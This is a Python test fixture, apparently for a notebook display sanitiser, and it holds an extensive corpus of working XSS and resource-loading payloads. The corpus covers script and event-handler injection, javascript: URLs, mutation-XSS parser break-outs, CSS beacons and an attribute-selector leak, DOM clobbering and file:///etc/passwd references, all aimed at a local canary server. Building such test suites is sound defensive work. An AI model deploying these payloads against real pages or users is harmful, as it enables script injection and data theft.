# SPDX-License-Identifier: Apache-2.0
"""What hostile code displays. Every address leads to TRAP, a server that counts who comes, or to a path of the daemon that has
"hostile" in it: no such request may be seen. What would run, sets `hacked` in the page or goes to one of them."""
import base64
import socket
import threading

import harness

TRAP, OWN = "TRAP", "/v1/hostile"  # stand for addresses; TRAP is replaced by that of the server
RUN = f"hacked=1;fetch('{OWN}-fetch');new Image().src='TRAP/beacon'"

HTML = {
    "script": f"<script>{RUN}</script><script src='TRAP/script.js'></script><script type=module>import 'TRAP/module.js'</script>",
    "script of the page's origin": f"<script src='/frame.js'></script><script src='{OWN}.js'></script>",
    "broken script": f"<scr<script>ipt>{RUN}</scr</script>ipt><<script>{RUN}//<</script>",
    "handlers": "".join(
        f"<{tag} {event}=\"{RUN}\" {more}>x</{tag}>"
        for tag, event, more in (
            ("img", "onerror", "src=x"), ("svg", "onload", ""), ("body", "onload", ""), ("input", "onfocus", "autofocus"),
            ("details", "ontoggle", "open"), ("video", "onerror", "src=x"), ("marquee", "onstart", ""), ("div", "onpointerover", ""),
            ("div", "onanimationstart", "style='animation:x 1s'"), ("select", "onfocus", "autofocus"), ("iframe", "onload", ""),
            ("a", "onclick", "href='#'"), ("div", "onscrollsnapchange", ""), ("div", "onbeforetoggle", "popover"),
        )
    ),
    "frames": "".join(
        f"<{tag} {attribute}='{address}'></{tag}>"
        for tag, attribute in (("iframe", "src"), ("frame", "src"), ("object", "data"), ("embed", "src"), ("fencedframe", "src"))
        for address in ("TRAP/frame", OWN, "/", f"javascript:{RUN.replace(chr(39), '')}", "data:text/html,<script>parent.hacked=1</script>")
    ) + f"<iframe srcdoc=\"<script>{RUN}</script>\"></iframe><frameset><frame src=TRAP/f></frameset><portal src=TRAP/portal></portal>"
    f"<applet code=x codebase=TRAP/></applet>",
    "styles": "<style>@import 'TRAP/import.css'; @import url(TRAP/url.css); @font-face { font-family: f; src: url(TRAP/font.woff) }"
    " body { background: url(TRAP/background); font-family: f; cursor: url(TRAP/cursor), auto } li { list-style: url(TRAP/list) }"
    " p::before { content: url(TRAP/content) } p { border-image: url(TRAP/border); mask: url(TRAP/mask); filter: url(TRAP/f#x) }"
    " p { background: image-set('TRAP/set' 1x); shape-outside: url(TRAP/shape); offset-path: url(TRAP/path) }"
    " p { --x: url(TRAP/variable); background: var(--x) } @media all { p { background: url(TRAP/media) } }"
    " input[value^=a] { background: url(TRAP/leak) }</style><p>styles</p>",
    "styles with escapes": r"<style>p { background: \75 rl(TRAP/escape); background: u\72l(TRAP/escape2) } @\69mport 'TRAP/escape3';"
    r" p { back\67round: ur\6c(TRAP/escape4) } @im\port 'TRAP/escape5' </style><p>styles</p>"
    "<p style='background:u&#114;l(TRAP/entity)'>p</p><p style='background:\\75rl(TRAP/inline)'>p</p>",
    "style attributes": "<p style='background:url(TRAP/a)'>a</p><p style=\"background:image-set(&quot;TRAP/b&quot; 1x)\">b</p>"
    "<p style='width:expression(hacked=1);behavior:url(TRAP/c);-moz-binding:url(TRAP/d)'>c</p>"
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>over</div>",
    "styles that break out": "<style></style><img src=TRAP/broken onerror='hacked=1'><style>/*</style><p style='*/background:url(TRAP/comment)'>"
    "<svg><style><img src=x onerror='hacked=1'></style></svg><math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=hacked=1&gt;'></table></mtext></math><form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked=1>",
    "links": "".join(
        f"<a href=\"{address}\" target='{target}' ping='TRAP/ping'>a link</a> "
        for address in (f"javascript:{RUN}", f"java&#10;script:{RUN}", f"\x01javascript:{RUN}", "data:text/html,<script>hacked=1</script>",
                        f"vbscript:{RUN}", OWN, "/", "#/tokens", "?hostile", "blob:TRAP/x", "file:///etc/passwd", "view-source:TRAP/v")
        for target in ("_self", "_top", "_parent", "_blank")
    ) + f"<map name=m><area href='TRAP/area' shape=default></map><img usemap=#m src=x><a href={OWN} download>save</a>",
    "preloads": "".join(
        f"<link rel='{rel}' href='TRAP/{rel.replace(' ', '-')}' as='script'>"
        for rel in ("stylesheet", "prefetch", "preload", "modulepreload", "preconnect", "dns-prefetch", "prerender", "icon", "manifest",
                    "import", "shortcut icon", "alternate stylesheet", "apple-touch-icon", "next", "expect")
    ) + f"<link rel=stylesheet href='{OWN}.css'><script type=speculationrules>{{\"prefetch\": [{{\"urls\": [\"TRAP/rules\"]}}]}}</script>",
    "meta and base": "<meta http-equiv=refresh content='0;url=TRAP/refresh'><meta http-equiv=refresh content='0;url=javascript:hacked=1'>"
    "<meta http-equiv=set-cookie content='hostile=1'><meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">"
    "<meta name=referrer content=unsafe-url><base href='TRAP/base/' target=_top><img src=relative><a href=relative2>x</a>"
    "<meta http-equiv=content-security-policy content='report-uri TRAP/report'><meta http-equiv=delegate-ch content='sec-ch TRAP'>",
    "forms": f"<form id=f action='TRAP/form' method=post><input name=a value=b><input type=password name=p autocomplete=current-password>"
    f"<button autofocus>Sign in</button><button formaction='{OWN}' formmethod=post>go</button><input type=image src='TRAP/input'></form>"
    f"<button form=f>outside</button><form action='{OWN}' method=dialog><input type=submit></form><isindex action=TRAP/isindex>"
    f"<dialog open><form action='javascript:hacked=1'><button>x</button></form></dialog><keygen name=k>",
    "pictures": "<img src='TRAP/src'><img srcset='TRAP/srcset 1x' src='TRAP/second'><picture><source srcset='TRAP/source'><img></picture>"
    "<img src='//127.0.0.1:1/hostile'><img lowsrc=TRAP/low dynsrc=TRAP/dyn><image src=TRAP/image><input type=image src=TRAP/in>"
    f"<img src='{OWN}'><img src='file:///etc/passwd'><img loading=lazy src=TRAP/lazy><table background=TRAP/table><tr><td background=TRAP/td>"
    "</table><body background=TRAP/body><video poster=TRAP/poster src=TRAP/video autoplay></video><audio src=TRAP/audio autoplay></audio>"
    "<video><source src=TRAP/vs><track default src=TRAP/track></video><bgsound src=TRAP/sound>",
    "SVG": f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' onload=\"{RUN}\"><script>{RUN}</script>"
    f"<script href='TRAP/svg.js'/><image href='TRAP/svg-image' width=9 height=9 /><image xlink:href='TRAP/svg-xlink' width=9 height=9 />"
    f"<use href='TRAP/use#x'/><use href='data:image/svg+xml,<svg id=x onload=hacked=1>#x'/><feImage href='TRAP/fe'/>"
    f"<foreignObject><iframe src='TRAP/foreign'></iframe><body onload='hacked=1'></foreignObject><a href='javascript:hacked=1'><text y=9>x</text></a>"
    f"<animate attributeName=href values='javascript:hacked=1' begin=0s /><set attributeName=onmouseover to='hacked=1' /><a><animate "
    f"attributeName=href to='TRAP/animate'/><text y=20>y</text></a><rect fill='url(TRAP/fill#x)' style='mask:url(TRAP/mask#x)' width=9 height=9 />"
    f"<style>@import 'TRAP/svg.css'; rect {{ fill: url(TRAP/rect#a) }}</style><handler>x</handler><filter><feImage xlink:href=TRAP/fei /></filter></svg>",
    "names": "<img name=body><form name=getElementById><input name=attributes></form><a id=adder></a><a id=location href='TRAP/clobber'></a>"
    "<form id=parent><input name=postMessage></form><img name=cookie><object name=document></object><a id=hacked></a><a name=top>x</a>",
    "huge": "<div style='width:9999999px;height:9999999px;background:linear-gradient(red,blue)'>huge</div><pre>" + "x" * 100000 + "</pre>"
    + "<div>" * 3000 + "deep" + "</div>" * 3000,
    "templates": f"<template><script>{RUN}</script></template><div><template shadowrootmode=open><script>{RUN}</script><img src=TRAP/shadow>"
    f"<link rel=stylesheet href=TRAP/shadow.css></template></div><noscript><p title='</noscript><img src=x onerror=hacked=1>'></noscript>"
    f"<xmp><p title='</xmp><img src=x onerror=hacked=1>'></xmp><textarea><p title='</textarea><img src=x onerror=hacked=1>'></textarea>"
    f"<title><p title='</title><img src=x onerror=hacked=1>'></title><!--><img src=x onerror=hacked=1>--><![CDATA[<img src=x onerror=hacked=1>]]>"
    f"<plaintext><img src=x onerror=hacked=1>",
}

MARKDOWN = (
    f"[link](javascript:hacked=1) ![picture](TRAP/markdown.png) <img src=TRAP/raw onerror='hacked=1'> <script>{RUN}</script>\n\n"
    "[ref]: TRAP/ref\n\n![by reference][ref] <TRAP/auto> [own](/v1/hostile) [hash](#/tokens)\n\n<style>*{display:none}</style>\n\n"
    "<iframe src=TRAP/markdown-frame></iframe>\n\n`code`<svg onload=hacked=1>\n\n$\\href{javascript:hacked=1}{x}$\n\n<a href='data:text/html,x'>d</a>"
)
TEX = [
    r"\href{javascript:hacked=1}{x}", r"\includegraphics{TRAP/tex.png}", r"\htmlData{x=1, onclick=hacked}{y}", r"\url{javascript:hacked=1}",
    r"\def\a{\a\a}\a", r"\vec{x} + \sqrt{y} + \fcolorbox{red}{blue}{z} + \pmb{a} + \overbrace{b}", r"\unknown{x", r"\htmlStyle{background: url(TRAP/tex-style)}{x}", r"\rule{99999em}{99999em}", "<img src=x onerror=hacked=1>",
]
SVG = HTML["SVG"].replace(" width=9 height=9 /", " width='9' height='9'/")
CHART = {"title": {"text": "<img src=x onerror=hacked=1>"}, "backgroundColor": {"image": "TRAP/chart"}}

# Text that is shown as such: names, values, errors, lines of output.
TEXT = "<img src=TRAP/text onerror=hacked=1></script></style></textarea><script>hacked=1</script>"
TERMINAL = "\x1b]8;;TRAP/osc\x07click\x1b]8;;\x07 \x1b]0;hostile title\x07\x1b[31mred\x1b[0m \x1b[9999C\x1b[2J\x9b31m\x00\x08"


class Trap:
    """A server that nobody may come to. It counts connections, not requests: a connection alone would tell something."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.address = f"http://127.0.0.1:{self.socket.getsockname()[1]}"
        self.seen = []
        self.thread = threading.Thread(target=self.accept, daemon=True)
        self.thread.start()

    def accept(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(5)
                try:
                    self.seen.append(connection.recv(2000).decode(errors="replace"))
                except OSError as error:
                    self.seen.append(f"a connection: {error}")

    def set(self, text):
        return text.replace(TRAP, self.address + "/hostile")

    def close(self):
        harness.end_accepting(self.socket, self.thread)


def shown(bundle):
    """Code that displays BUNDLE, by MIME type."""
    return f"display({bundle!r}, raw=True)"


def picture(text):
    return base64.b64encode(text.encode()).decode()
